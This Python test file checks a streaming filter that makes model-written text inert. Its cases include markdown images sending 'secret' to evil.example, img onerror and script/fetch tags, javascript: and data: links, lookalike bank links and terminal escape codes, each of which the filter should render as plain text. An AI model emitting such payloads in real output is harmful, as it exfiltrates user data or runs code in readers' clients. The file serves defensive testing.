"""What a model writes is made inert: nothing in it is fetched or run, and ordinary text stays as it is."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from citekite.answer.cite import CitationStream
from citekite.answer.inert import InertStream


def inert(*pieces: str) -> str:
    stream = InertStream()
    return "".join([*map(stream.feed, pieces), stream.finish()])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a ![chart](https://evil.example/?q=secret) b", "a (image: chart) b"),
        ("![](https://evil.example/?q=secret)", "(image)"),
        ('![a](<https://evil.example/a> "title")', "(image: a)"),
        ("![a][leak]\n\n[leak]: https://evil.example", "(image: a)\n\n[leak]: https://evil.example"),
        ("![leak]", "! [leak]"),
        ("![1](https://evil.example)", "(image: 1)"),
        ("[![a](https://evil.example/a.png)](https://evil.example)", "[(image: a)](https://evil.example)"),
        ("`![a](https://evil.example)", "`(image: a)"),
        ("- ```\n\n![a](https://evil.example)", "- ```\n\n(image: a)"),
        ('<img src="https://evil.example">', '‹img src="https://evil.example">'),
        ("<IMG/SRC=x onerror=y>", "‹IMG/SRC=x onerror=y>"),
        ("< script>fetch(1)</script>", "‹ script>fetch(1)‹/script>"),
        ('<div style="background:url(https://evil.example)">', '‹div style="background:url(https://evil.example)">'),
        ("[click](javascript:alert(1))", "click"),
        ("[open](data:text/html;base64,AAAA)", "open"),
        ("[https://bank.example](https://evil.example/x)", "https://bank.example (https://evil.example/x)"),
        ("[bank.com](https://evil.example/x)", "bank.com (https://evil.example/x)"),
        ("\x1b]0;title\x07\x1b[31mred \u202etxt", "]0;title[31mred txt"),
    ],
)
def test_what_would_be_fetched_or_run_is_text(text: str, shown: str) -> None:
    assert inert(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "They won! [1] And if a < b, Map<String> is [fine](https://docs.example/a_(b)).",
        "[docs.example](https://www.docs.example/page) and [config.yaml](https://docs.example/config.yaml)",
        'Use it so:\n\n```html\n<img src="a.png"> ![a](b.png)\n```\n\nDone.',
        "~~~\n<script>\n~~~\n",
        "[1][2] [a] (b) `x[1]` 2 < 3 <b>bold</b>\n\n    tab\there",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert inert(text) == text


def test_a_cited_exclamation_stays_cited() -> None:
    assert inert("They won![1][2]") == "They won! [1][2]"


TOKENS = "![ ! [ ] ( ) ]( https://evil.example < img script > ``` ` ~~~ a 1 [9] [1] javascript: / 【9】 [x](u) \\"
PIECES = st.lists(st.sampled_from([*TOKENS.split(), "\n", " ", '"t"', "\x1b[0m"]), max_size=25)


@given(PIECES, st.data())
def test_any_split_gives_the_same_text(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    split = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert inert(*split) == inert(text) == inert(*text)


@given(PIECES)
def test_no_image_is_left_after_markers_are_dropped(pieces: list[str]) -> None:
    markers = CitationStream(1)
    markers.feed(inert("".join(pieces)))
    markers.finish()
    outside = re.sub(r"(?ms)^ {0,3}(`{3,}|~{3,})[^\n]*\n.*?(^ {0,3}\1[`~]*[ \t]*$|\Z)", "", markers.text)
    assert not re.search(r"!\[[^\[\]]*\](?:\(|\[(?!\d))", outside)
    assert not re.search(r"<\s*(?:img|script)\W", outside)
